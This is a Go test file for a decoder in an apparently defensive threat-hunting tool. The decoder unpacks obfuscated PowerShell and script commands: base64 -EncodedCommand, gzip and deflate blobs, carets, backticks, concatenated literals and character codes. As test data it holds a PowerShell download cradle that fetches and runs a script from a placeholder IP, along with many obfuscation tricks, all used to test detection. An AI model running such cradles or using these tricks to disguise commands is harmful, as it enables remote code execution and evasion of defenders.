package payload

import (
	"bytes"
	"compress/flate"
	"compress/gzip"
	"encoding/base64"
	"fmt"
	"strings"
	"testing"

	"unicode/utf16"

	"hunt/timeline/encoded"
)

func wide(s string) []byte {
	var b []byte
	for _, u := range utf16.Encode([]rune(s)) {
		b = append(b, byte(u), byte(u>>8))
	}
	return b
}

func b64(b []byte) string { return base64.StdEncoding.EncodeToString(b) }

func gzipped(s string) []byte {
	var b bytes.Buffer
	w := gzip.NewWriter(&b)
	_, _ = w.Write([]byte(s))
	_ = w.Close()
	return b.Bytes()
}

func deflated(s string) []byte {
	var b bytes.Buffer
	w, _ := flate.NewWriter(&b, flate.BestCompression)
	_, _ = w.Write([]byte(s))
	_ = w.Close()
	return b.Bytes()
}

// unpacked returns kind and text of everything that s carries.
func unpacked(s string) []string {
	u := unpacker{seen: map[string]bool{}, budget: maxDecodedFinding}
	u.unpack(s, 0)
	var out []string
	for _, d := range u.out {
		out = append(out, d.Kind+" | "+d.Text)
	}
	return out
}

const cradle = "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a.ps1')"

func TestPayloadsAreDecoded(t *testing.T) {
	t.Parallel()
	for name, c := range map[string]struct {
		in   string
		want []string
	}{
		"-enc": {"powershell -nop -enc " + b64(wide(cradle)),
			[]string{"base64 UTF-16LE (-EncodedCommand) | " + cradle}},
		"-EncodedCommand": {"powershell -EncodedCommand " + b64(wide(cradle)),
			[]string{"base64 UTF-16LE (-EncodedCommand) | " + cradle}},
		"-e in quotes": {`powershell -e "` + b64(wide(cradle)) + `"`,
			[]string{"base64 UTF-16LE (-EncodedCommand) | " + cradle}},
		"/ec": {"powershell /ec " + b64(wide(cradle)),
			[]string{"base64 UTF-16LE (-EncodedCommand) | " + cradle}},
		"an en dash": {"powershell –enc " + b64(wide(cradle)),
			[]string{"base64 UTF-16LE (-EncodedCommand) | " + cradle}},
		"a short command": {"powershell -enc " + b64(wide("whoami")),
			[]string{"base64 UTF-16LE (-EncodedCommand) | whoami"}},
		"a command not in ASCII": {"powershell -enc " + b64(wide("Пуск.exe 日本 -скрыто")),
			[]string{"base64 UTF-16LE (-EncodedCommand) | Пуск.exe 日本 -скрыто"}},
		"another argument with base64": {"powershell -ExecutionPolicy QUJDREVGR0g=", nil},
		"nested -enc": {"powershell -enc " + b64(wide("powershell -enc "+b64(wide("whoami /all")))),
			[]string{"base64 UTF-16LE (-EncodedCommand) | powershell -enc " + b64(wide("whoami /all")),
				"base64 UTF-16LE (-EncodedCommand) | whoami /all"}},
		"gzip": {"[Convert]::FromBase64String('" + b64(gzipped(cradle)) + "')", []string{"base64 gzip | " + cradle}},
		"deflate": {"[Convert]::FromBase64String('" + b64(deflated(cradle)) + "')",
			[]string{"base64 deflate | " + cradle}},
		"a literal": {"[Convert]::FromBase64String('d2hvYW1p')", []string{"base64 (FromBase64String) | whoami"}},
		"a torn gzip": {"x " + b64(gzipped(strings.Repeat(cradle+"#", 40))[:120]),
			[]string{"base64 gzip (broken off)"}},
		"carets hide it": {"cmd /c p^o^w^e^r^s^h^e^l^l -enc " + b64(wide("whoami")),
			[]string{"for reading: carets removed | cmd /c powershell -enc " + b64(wide("whoami")),
				"base64 UTF-16LE (-EncodedCommand) | whoami"}},
		"words in pieces": {"& ('I'+'E'+'X') ('a'+\"b\")",
			[]string{"for reading: literals put together | & ('IEX') ('ab')"}},
		"a format":      {"& ('{1}e{0}'-f'x','i')", []string{"for reading: literals put together | & ('iex')"}},
		"a replacement": {"('whXami' -replace 'X','o')", []string{"for reading: literals put together | ('whoami')"}},
		"a method call": {"('whXami').Replace('X','o')", []string{"for reading: literals put together | ('whoami')"}},
		"a quote by its code": {"(('a'+'oHb') -RePlAcE ([chAr]111+[Char]72),[char]39)",
			[]string{"for reading: literals put together | ('a''b')"}},
		"backticks": {"I`E`X (N`ew-Object Net.WebClient)",
			[]string{"for reading: backticks removed | IEX (New-Object Net.WebClient)"}},
		"codes, array":      {"-join [char[]](105,101,120,32,97)", []string{"character codes | iex a"}},
		"codes, pipe":       {"(0x69,0x65,0x78,0x20)|%{[char]$_}", []string{"character codes | iex "}},
		"codes, JavaScript": {"eval(String.fromCharCode(97,108,101,114,116))", []string{"character codes | alert"}},
		"codes, VBScript":   {"Execute(Chr(87) & Chr(83) & Chr(99) & Chr(114))", []string{"character codes | WScr"}},
		"codes, one by one": {"[char]105+[char]101+[char]120+[char]33", []string{"character codes | iex!"}},
	} {
		have := unpacked(c.in)
		if len(have) != len(c.want) {
			t.Errorf("%s: %q, want %q", name, have, c.want)
			continue
		}
		for i := range have {
			if !strings.HasPrefix(have[i], c.want[i]) {
				t.Errorf("%s: %q, want %q", name, have[i], c.want[i])
			}
		}
	}
}

// What has more than one meaning, or is no text, is not touched.
func TestNothingIsGuessed(t *testing.T) {
	t.Parallel()
	for _, s := range []string{
		"",
		`C:\Users\a\AppData\Local\Temp\abcdefghijklmnopqrstuvwxyzabcdefghijklmnopqrstuvwxyz.exe`,
		"--token=" + strings.Repeat("Zx9Qk2Lm", 8),
		"findstr /r a^b c.txt",                       // a regular expression
		"'x' -f 'a'+'b'",                             // the format binds tighter than the sum
		"foo 'a'+'b'",                                // arguments of a command: no sum at all
		"('{0,5}' -f 'a')",                           // alignment
		"('{0:N2}' -f '1')",                          // a format of its own
		"('{2}' -f 'a','b')",                         // no such argument
		"('{{0}}' -f 'a')",                           // escaped braces
		"('a.c' -replace '.','x')",                   // a regular expression
		"('abc' -replace 'b','$0$0')",                // a reference to the match
		`("$env:x" + 'b')`,                           // depends on the machine
		"`n`t`a",                                     // escapes that mean something
		"[char[]](1,2,3,4,5)",                        // no text
		"(80,443,8080,8443)",                         // ports
		"FromBase64String('!!!!')",                   // not base64
		"powershell -enc " + strings.Repeat("A", 16), // zero bytes
		"x " + b64(append(wide(strings.Repeat("secret", 20)), 0x00, 0xd8)) + " half a pair",
	} {
		if have := unpacked(s); len(have) > 0 {
			t.Errorf("%q: %q", s, have)
		}
	}
}

// What hides a payload behind text that looks encoded does not hide that hunt stopped looking.
func TestDecoysBeforeAPayloadAreTold(t *testing.T) {
	payload := base64.StdEncoding.EncodeToString(
		[]byte("IEX (New-Object Net.WebClient).DownloadString('http://a.example/')"))
	for _, c := range []struct {
		decoys int
		told   bool
	}{{encoded.MaxRuns - 1, false}, {encoded.MaxRuns, true}} {
		var b strings.Builder
		for i := range c.decoys {
			fmt.Fprintf(&b, "%040d ", i)
		}
		u := unpacker{seen: map[string]bool{}, budget: maxDecodedFinding}
		if u.unpack(b.String()+payload, 0); u.full != c.told || (len(u.out) == 1) == c.told {
			t.Errorf("%d decoys: %d parts, told: %v", c.decoys, len(u.out), u.full)
		}
	}
}

func TestDecodingEndsAtItsBounds(t *testing.T) {
	t.Parallel()
	bomb := unpacker{seen: map[string]bool{}, budget: maxDecodedFinding}
	bomb.unpack("FromBase64String('"+b64(gzipped(strings.Repeat("A ", 32<<20)))+"')", 0)
	if len(bomb.out) != 1 || len(bomb.out[0].Text) > maxDecodedText+200 ||
		!strings.Contains(bomb.out[0].Text, "[cut, ") {
		t.Errorf("a bomb gives %d parts", len(bomb.out))
	}
	deep := "whoami /groups and something to make it long"
	for range maxDecodeDepth + 4 {
		deep = "powershell -enc " + b64(wide(deep))
	}
	u := unpacker{seen: map[string]bool{}, budget: 64 << 20}
	u.unpack(deep, 0)
	if len(u.out) != maxDecodeDepth || !u.full {
		t.Errorf("nesting: %d parts, full %v", len(u.out), u.full)
	}
	var many strings.Builder
	for i := range 200 {
		many.WriteString("FromBase64String('" + b64([]byte(strings.Repeat("x", i)+" text that is long enough")) + "') ")
	}
	u = unpacker{seen: map[string]bool{}, budget: maxDecodedFinding}
	u.unpack(many.String(), 0)
	if len(u.out) > maxDecodedParts || !u.full {
		t.Errorf("many: %d parts, full %v", len(u.out), u.full)
	}
	small := unpacker{seen: map[string]bool{}, budget: 50}
	small.unpack(many.String(), 0)
	total := 0
	for _, d := range small.out {
		total += len(d.Text)
	}
	if !small.full || total > 50+200 {
		t.Errorf("a budget of 50 bytes gave %d", total)
	}
}

func FuzzUnpack(f *testing.F) {
	f.Add("powershell -enc " + b64(wide(cradle)))
	f.Add("('{1}e{0}'-f'x','i') [char[]](105,101,120,32,97) p^o^w^e^r I`E`X ('a'+'b').Replace('a',[char]39)")
	f.Fuzz(func(t *testing.T, s string) {
		u := unpacker{seen: map[string]bool{}, budget: 4096}
		u.unpack(s, 0)
		if len(u.out) > maxDecodedParts {
			t.Fatalf("%d parts", len(u.out))
		}
	})
}
